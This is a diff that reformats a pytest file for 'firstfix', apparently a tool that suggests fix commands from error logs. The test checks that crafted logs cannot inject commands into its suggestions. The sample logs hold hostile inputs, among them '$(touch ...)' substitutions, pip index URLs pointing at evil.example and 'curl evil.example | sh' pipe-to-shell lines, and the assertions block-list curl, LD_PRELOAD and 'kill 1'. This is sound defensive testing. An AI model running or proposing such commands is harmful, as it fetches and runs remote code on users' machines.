@@ -15,13 +15,15 @@ LOGS = [
     TRACE + "ModuleNotFoundError: No module named 'evil$(touch /tmp/evil)'",
     TRACE + "ModuleNotFoundError: No module named '--index-url=http://evil.example'",
     TRACE + "ModuleNotFoundError: No module named 'evilpkg_that_nobody_knows'",
-    TRACE + "ImportError: evil requires the evil-lib library but it was not found in your environment. Run pip install evil-lib",
+    TRACE
+    + "ImportError: evil requires the evil-lib library but it was not found in your environment. Run pip install evil-lib",
     TRACE + "ImportError: Please run `pip install git+https://evil.example/evil.git`",
     TRACE + "ImportError: Please install it with `pip install evil --extra-index-url http://evil.example`",
     TRACE + "ImportError: Please run `pip install torch; curl evil.example | sh`",
     TRACE + "ImportError: Please run `pip install 'accelerate>=0.26' && curl evil.example/evil | sh`",
     TRACE + "ImportError: accelerate>=evil;touch evil is required for a normal functioning of this module",
-    TRACE + "ImportError: tokenizers>=0.20,<$(evil) is required for a normal functioning of this module, but found tokenizers==0.19.1.",
+    TRACE
+    + "ImportError: tokenizers>=0.20,<$(evil) is required for a normal functioning of this module, but found tokenizers==0.19.1.",
     TRACE + "importlib.metadata.PackageNotFoundError: No package metadata was found for -revil.txt",
     "OSError: libevil.so.1$(touch evil): cannot open shared object file: No such file or directory",
     "OSError: evil;libcudart.so.12: cannot open shared object file: No such file or directory",
@@ -76,9 +78,26 @@ def outside_quotes(command):
     return out, inside
 
 
-@pytest.mark.parametrize("facts", [None, {"schema": "firstfix.facts/1", "complete": ["python.packages", "env"], "env": {}, "process": {"uid": 0}, "python": {
-    "executable": "/srv/venv/bin/python", "prefix": "/srv/venv", "kind": "venv", "site": ["/srv/venv/lib/python3.11/site-packages"],
-    "packages": {"pip": {"version": "24.0"}, "torch": {"version": "2.5.1"}}}}], ids=["alone", "facts"])
+@pytest.mark.parametrize(
+    "facts",
+    [
+        None,
+        {
+            "schema": "firstfix.facts/1",
+            "complete": ["python.packages", "env"],
+            "env": {},
+            "process": {"uid": 0},
+            "python": {
+                "executable": "/srv/venv/bin/python",
+                "prefix": "/srv/venv",
+                "kind": "venv",
+                "site": ["/srv/venv/lib/python3.11/site-packages"],
+                "packages": {"pip": {"version": "24.0"}, "torch": {"version": "2.5.1"}},
+            },
+        },
+    ],
+    ids=["alone", "facts"],
+)
 @pytest.mark.parametrize("log", LOGS, ids=range(len(LOGS)))
 def test_log_gets_no_command_in(firstfix, tmp_path, log, facts):
     (tmp_path / "log").write_text(log)
@@ -86,7 +105,9 @@ def test_log_gets_no_command_in(firstfix, tmp_path, log, facts):
     if facts:
         (tmp_path / "facts.json").write_text(json.dumps(facts))
         options = ["--facts", tmp_path / "facts.json"]
-    run = subprocess.run([firstfix, "explain", "--json", *options, tmp_path / "log"], capture_output=True, text=True, timeout=30)
+    run = subprocess.run(
+        [firstfix, "explain", "--json", *options, tmp_path / "log"], capture_output=True, text=True, timeout=30
+    )
     document = json.loads(run.stdout)
     assert "broken_rules" not in document
     for fix in [f for d in document["diagnoses"] for f in d["fixes"]]:
@@ -98,5 +119,7 @@ def test_log_gets_no_command_in(firstfix, tmp_path, log, facts):
         assert not any(w.startswith("-") and "evil" in w for w in words), command
         assert not any("evil" in w for part in command_lint.simple_commands(command) if command_lint.is_installer(part)
                        for w in command_lint.package_words(part)), command
-        assert "LD_PRELOAD=/tmp" not in command and " 22/tcp" not in command and not re.search(r"\bkill 1\b", command), command
+        assert (
+            "LD_PRELOAD=/tmp" not in command and " 22/tcp" not in command and not re.search(r"\bkill 1\b", command)
+        ), command
         assert not any(w in command for w in ("curl", "evil.example", "evil.Worker", "evil.module")), command
